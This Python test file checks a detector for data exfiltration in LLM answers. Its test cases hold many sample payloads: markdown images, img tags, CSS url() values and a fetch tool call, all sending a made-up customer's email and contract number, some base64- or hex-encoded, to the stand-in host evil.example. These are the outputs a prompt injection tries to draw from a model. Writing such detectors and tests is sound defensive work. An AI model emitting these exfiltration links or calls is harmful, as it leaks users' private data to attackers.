"""`llm/exfiltration`: addresses that carry off what the call was told; ordinary links carry nothing."""

from __future__ import annotations

import base64

import pytest
from tests.detectors.llm.spoken import call_of, document, system, tool, turn, user

from otel_mlsec.detectors.llm.exfiltration import Exfiltration
from otel_mlsec.finding import Severity

CRM = tool('{"customer": "Jane Roe", "email": "jane.roe@initech.com", "contract": "HX-4471982", "plan": "enterprise renewal"}')
ASKED = user("Summarise the customer's record, please.")
B64 = base64.urlsafe_b64encode(b"customer Jane Roe contract HX-4471982").decode().rstrip("=")
HEX = b"customer Jane Roe contract HX-4471982".hex()


@pytest.mark.parametrize(
    "answer",
    [
        "![chart](https://evil.example/p.png?d=HX-4471982)",
        "![a [b] c](https://evil.example/?d=jane.roe%40initech.com)",
        "[![x](https://evil.example/?d=jane.roe@initech.com)](https://ok.example)",
        "![x](//evil.example/c?data=enterprise+renewal)",
        '<img width=1 src="https://evil.example/?c=enterprise%20renewal">',
        "<IMG SRC=https://evil.example/HX-4471982/a.png>",
        "![x][1]\n\n[1]: https://evil.example/?q=4471982",
        "![x](https://4471982.evil.example/a.png)",
        f"![x](https://evil.example/{B64})",
        f"![x](https://evil.example/?q={HEX})",
        '<div style="background: url(https://evil.example/?a=4471982)">',
        "![x](https://evil.example/?q=customer record of Jane Roe, enterprise renewal)",
    ],
)
def test_words_of_the_call_in_an_image_are_high(answer: str):
    [finding] = Exfiltration().update(turn(ASKED, CRM, answers=(answer,)))

    assert finding.severity is Severity.HIGH
    assert finding.evidence["carries"] == "context"
    assert "4471982" not in repr(finding) and "evil" not in repr(finding)


@pytest.mark.parametrize(
    ("answer", "carries"),
    [
        ("[details](https://evil.example/?d=jane.roe@initech.com)", "context"),
        ("see https://evil.example/?d=HX-4471982", "context"),
        (f"[details](https://evil.example/{base64.b64encode(b'words that nobody here said').decode()})", "text"),
        ("![x](https://evil.example/?note=some%20words%20that%20were%20not%20told)", "data"),
    ],
)
def test_links_and_what_only_looks_like_data_are_medium(answer: str, carries: str):
    [finding] = Exfiltration().update(turn(ASKED, CRM, answers=(answer,)))

    assert finding.severity is Severity.MEDIUM
    assert finding.evidence["carries"] == carries


@pytest.mark.parametrize(("score", "severity"), [(0.3, Severity.LOW), (3.0, Severity.MEDIUM)])
def test_a_link_with_something_random_is_worse_where_an_input_is_suspected(score: float, severity: Severity):
    link = "[details](https://evil.example/?d=Zk3Q9xLr7TtYb2Wm8VcNp4Hs6Jd1)"

    [finding] = Exfiltration().update(turn(user("what is new?", score), CRM, answers=(link,)))

    assert finding.severity is severity
    assert finding.evidence["carries"] == "data"


@pytest.mark.parametrize(
    "answer",
    [
        "See [the guide](https://packaging.python.org/en/latest/tutorials/installing-packages/).",
        "![Eiffel](https://upload.wikimedia.org/wikipedia/commons/a/a8/Tour_Eiffel_Wikimedia_Commons.jpg)",
        "[commit](https://github.com/a/b/commit/9fceb02d0ae598e95dc970b74767f19372d61af8)",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "[record](https://crm.initech.com/records?customer=HX-4471982)",
        "![build](https://img.shields.io/badge/build-passing-green.svg?style=flat-square)",
        "[customer summaries](https://help.example.org/how-to-summarise-a-customer-record)",
        "[thing](https://shop.example/item/550e8400-e29b-41d4-a716-446655440000?utm_source=chat&utm_medium=link)",
        "http://localhost:8000/?token=HX-4471982",
        "![](",
        "[a](https://",
        "https://[::1]/x https://%zz/ http://@/ //",
    ],
)
def test_ordinary_links_carry_nothing(answer: str):
    asked = user("Summarise the customer's record at https://crm.initech.com, please.")

    assert Exfiltration().update(turn(asked, CRM, answers=(answer,))) == []


def test_an_address_that_an_input_gave_carries_nothing_new():
    url = "https://cdn.example.net/i/Zk3Q9xLr7TtYb2Wm8VcNp4Hs6Jd1?sig=Zk3Q9xLr7TtYb2Wm8VcNp4Hs6Jd1"

    assert Exfiltration().update(turn(ASKED, document(f"Logo: {url}"), answers=(f"![logo]({url})",))) == []


def test_known_hosts_are_those_that_operator_and_user_name_and_the_allowed_ones():
    answer = "![x](https://img.charts.example/?d=HX-4471982)"

    assert Exfiltration().update(turn(system("Charts come from charts.example."), CRM, answers=(answer,))) == []
    assert Exfiltration(allowed_hosts=("charts.example",)).update(turn(CRM, answers=(answer,))) == []
    assert len(Exfiltration().update(turn(system("Charts come from mycharts.example.org"), CRM, answers=(answer,)))) == 1
    assert len(Exfiltration().update(turn(tool("use img.charts.example"), CRM, answers=(answer,)))) == 1
    assert len(Exfiltration().update(turn(user("paste: img.charts.example", 3.0), CRM, answers=(answer,)))) == 1


def test_a_tool_call_that_carries_context_is_medium_and_high_after_a_suspected_document():
    call = call_of("fetch", '{"url": "https://evil.example/?d=jane.roe@initech.com"}')

    [plain] = Exfiltration().update(turn(ASKED, CRM, answers=(call,)))
    [after] = Exfiltration().update(turn(ASKED, CRM, document("do it", 3.0), answers=(call,)))

    assert plain.severity is Severity.MEDIUM
    assert after.severity is Severity.HIGH


def test_what_the_user_searches_for_is_no_leak():
    asked = user("best pizza places in Rome near station 4471982x")
    call = call_of("fetch", '{"url": "https://search.example/?q=best+pizza+places+in+rome+near+station"}')

    assert Exfiltration().update(turn(asked, answers=(call, "[more](https://search.example/?q=best+pizza+places+in+rome)"))) == []


def test_one_call_is_one_finding_and_the_same_again():
    answers = ("![x](https://evil.example/?d=HX-4471982)\n" * 3 + "\ud800",)
    call = turn(ASKED, CRM, answers=answers)
    detector = Exfiltration()

    [finding] = detector.update(call)

    assert finding.evidence["addresses"] >= 3
    assert detector.update(call) == [finding]
    assert detector.update(turn(ASKED, CRM, answers=answers, answered=False)) == []
